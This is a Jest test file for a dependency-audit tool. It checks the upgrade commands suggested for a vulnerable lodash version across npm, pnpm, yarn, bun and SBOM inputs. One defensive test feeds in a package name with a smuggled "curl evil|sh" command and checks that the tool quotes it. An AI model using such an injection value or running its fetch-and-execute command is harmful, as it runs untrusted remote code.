import { describe, expect, test } from '@jest/globals'
import type { PackageFact, Releases } from '../../../src/checks/dependency-audit/fact.ts'
import { remedyOf as remedyOfCopies } from '../../../src/checks/dependency-audit/remedy.ts'
import type { Dependent, Manager } from '../../../src/inventory/package.ts'
import { askedBy, askedByRoot, factOf } from '../../support/dependency-audit/facts.ts'

function fact(manager: Manager, dependents: readonly Dependent[], more: Partial<PackageFact> = {}) {
  const { package: _package, dependents: _dependents, kind: _kind, ...rest } = more
  return factOf('lodash@4.17.15', [], {
    manager,
    format: manager === 'yarn' ? 'yarn v1' : manager,
    dependents,
    ...rest,
  })
}

function remedyOf(one: PackageFact, version: string | undefined): string {
  return remedyOfCopies([one], version === undefined ? undefined : { version, isFree: true })
}

const EXACT = [askedByRoot('lodash', '4.17.15')]
const DEV = [askedByRoot('lodash', '4.17.15', { kind: 'dev' })]
const MEMBER = [askedByRoot('lodash', '4.17.15', { own: { name: '@w/a', folder: 'packages/a' } })]
const RANGE = [askedByRoot('lodash', '^4.17.0'), askedBy('x@1.0.0', 'lodash', '~4.17.1')]
const PARENT = [askedBy('old@1.0.0', 'lodash', '4.17.15')]

describe('what to type', () => {
  const cases: readonly (readonly [string, Manager, readonly Dependent[], string])[] = [
    ['a direct dependency', 'npm', EXACT, '`npm install lodash@4.17.21`.'],
    ['one of development', 'npm', DEV, '`npm install --save-dev lodash@4.17.21`.'],
    ['one of a member', 'npm', MEMBER, '`npm install lodash@4.17.21 --workspace packages/a`.'],
    ['a direct dependency', 'pnpm', EXACT, '`pnpm add lodash@4.17.21`.'],
    ['one of a member', 'pnpm', MEMBER, '`pnpm --dir packages/a add lodash@4.17.21`.'],
    ['one of development', 'yarn', DEV, '`yarn add --dev lodash@4.17.21`.'],
    ['one of a member', 'yarn', MEMBER, '`yarn --cwd packages/a add lodash@4.17.21`.'],
    ['one of a member', 'bun', MEMBER, '`bun add --cwd packages/a lodash@4.17.21`.'],
    ['ranges that let it in', 'npm', RANGE, '`npm update lodash` brings 4.17.21 or later.'],
    [
      'a range that lets it in',
      'pnpm',
      [askedByRoot('lodash', '^4.17.0')],
      '`pnpm update --recursive --depth Infinity lodash` brings 4.17.21 or later.',
    ],
    [
      'ranges that let it in',
      'yarn',
      RANGE,
      'delete the entry of lodash from yarn.lock and run yarn install',
    ],
    ['ranges that let it in', 'bun', RANGE, '`bun update lodash` brings'],
    ['an SBOM', 'sbom', EXACT, 'Upgrade it to 4.17.21 or later.'],
    ['a parent', 'npm', PARENT, '`"overrides": {"old":{"lodash":"4.17.21"}}`'],
    [
      'a parent, whose range the lockfile does not have',
      'pnpm',
      PARENT,
      'brings 4.17.21 or later if old allows it; if not, add to the root package.json `"pnpm": { "overrides": {"old>lodash":"4.17.21"} }`',
    ],
    ['a parent', 'yarn', PARENT, '`"resolutions": {"**/old/lodash":"4.17.21"}`'],
    ['a parent', 'bun', PARENT, '`"overrides": {"lodash":"4.17.21"}`'],
    ['a parent in an SBOM', 'sbom', PARENT, 'Look for a later old that allows 4.17.21.'],
  ]
  test.each(cases)('about %s with %s', (_name, manager, dependents, text) => {
    expect(remedyOf(fact(manager, dependents), '4.17.21')).toContain(text)
  })

  test('about an alias: under its own name', () => {
    const aliased = factOf('lodash@4.17.15', [], {
      package: { alias: 'low' },
      dependents: [askedByRoot('low', 'npm:lodash@4.17.15')],
    })
    expect(remedyOf(aliased, '4.17.21')).toBe('`npm install low@npm:lodash@4.17.21`.')
    const open = factOf('lodash@4.17.15', [], {
      package: { alias: 'low' },
      dependents: [askedByRoot('low', 'npm:lodash@^4.17.0')],
    })
    expect(remedyOf(open, '4.17.21')).toContain('npm update')
  })

  test('where there is no fix: nothing is invented', () => {
    expect(remedyOf(fact('npm', EXACT), undefined)).toContain('There is no fixed version yet')
  })

  test('in the berry format of Yarn by its own command', () => {
    const berry = factOf('lodash@4.17.15', [], {
      manager: 'yarn',
      format: 'yarn berry v8',
      dependents: RANGE,
    })
    expect(remedyOf(berry, '4.17.21')).toContain('`yarn up --recursive lodash`')
  })

  test('a hostile name is one argument', () => {
    const evil = factOf("x';curl evil|sh@1.0.0", [], { dependents: [askedByRoot('x', '1.0.0')] })
    expect(remedyOf(evil, '1.0.1')).toContain("npm install 'x'\\'';curl evil|sh@1.0.1'")
  })
})

describe('the parent to upgrade', () => {
  const release = (version: string, range?: string) => ({
    version,
    dependencies: range === undefined ? {} : { lodash: range },
  })
  const releasesOf =
    (...releases: Releases['releases']) =>
    () => ({ releases, latest: undefined })

  test.each([
    ['the smallest later one that lets it in', ['0.9.0', '1.2.0', '2.0.0'], 'Upgrade old to 1.2.0.'],
    ['not an earlier one', ['0.9.0'], 'Look for a later old that allows 4.17.21'],
    ['not a prerelease', ['1.1.0-rc.1', '3.0.0'], 'Upgrade old to 3.0.0.'],
  ])('is %s', (_name, versions, text) => {
    const all = [release('1.1.0', '4.17.15'), ...versions.map((version) => release(version, '^4.17.20'))]
    expect(remedyOf(fact('npm', PARENT, { releasesOf: releasesOf(...all) }), '4.17.21')).toContain(text)
  })

  test('is known of pnpm where the registry says what its parents ask for', () => {
    const asks = (range: string) => ({
      releasesOf: releasesOf(release('1.0.0', range), release('1.2.0', '*')),
    })
    expect(remedyOf(fact('pnpm', PARENT, asks('^4.17.0')), '4.17.21')).toContain('`pnpm update')
    expect(remedyOf(fact('pnpm', PARENT, asks('4.17.15')), '4.17.21')).toBe('Upgrade old to 1.2.0.')
  })

  test('is asked for in the folder of the lockfile', () => {
    const nested = factOf('lodash@4.17.15', [], {
      lockfile: 'web/app/yarn.lock',
      manager: 'yarn',
      format: 'yarn v1',
    })
    expect(remedyOf(nested, '4.17.21')).toBe('In web/app: `yarn add lodash@4.17.21`.')
  })

  test('may be one that no longer needs it', () => {
    const told = fact('npm', PARENT, { releasesOf: releasesOf(release('2.0.0')) })
    expect(remedyOf(told, '4.17.21')).toBe('Upgrade old to 2.0.0.')
  })

  test('of two, one of which has no such release: the other is overridden', () => {
    const told = fact('npm', [...PARENT, askedBy('stuck@1.0.0', 'lodash', '4.17.15')], {
      releasesOf: (name) =>
        name === 'old' ? { releases: [release('1.2.0', '*')], latest: '1.2.0' } : undefined,
    })
    expect(remedyOf(told, '4.17.21')).toBe(
      'Upgrade old to 1.2.0, or add to the root package.json `"overrides": {"stuck":{"lodash":"4.17.21"}}` and install.',
    )
  })
})

describe('of several copies', () => {
  const nested = (parent: string) =>
    factOf('lodash@4.17.15', [], { dependents: [askedBy(`${parent}@1.0.0`, 'lodash', '4.17.15')] })
  const free = { version: '4.17.21', isFree: true }

  test('everybody who brings one in is told', () => {
    expect(remedyOfCopies([nested('p1'), nested('p2'), nested('p1')], free)).toContain(
      '`"overrides": {"p1":{"lodash":"4.17.21"},"p2":{"lodash":"4.17.21"}}`',
    )
  })

  test('a version with other flaws is told to have them', () => {
    expect(remedyOfCopies([nested('p1')], { ...free, isFree: false })).toContain(
      'No version is free of everything known: 4.17.21 has other flaws.',
    )
  })
})

describe('in the root of a workspace', () => {
  test.each<readonly [Manager, string, string]>([
    ['yarn', 'yarn v1', '`yarn add -W lodash@4.17.21`'],
    ['yarn', 'yarn berry v8', '`yarn add lodash@4.17.21`'],
    ['pnpm', 'pnpm-lock v9.0', '`pnpm add --workspace-root lodash@4.17.21`'],
    ['npm', 'package-lock v3', '`npm install lodash@4.17.21`'],
  ])('%s (%s) is told that the root is meant: %s', (manager, format, command) => {
    const one = factOf('lodash@4.17.15', [], { manager, format, hasMembers: true, dependents: EXACT })
    expect(remedyOf(one, '4.17.21')).toContain(command)
  })
})
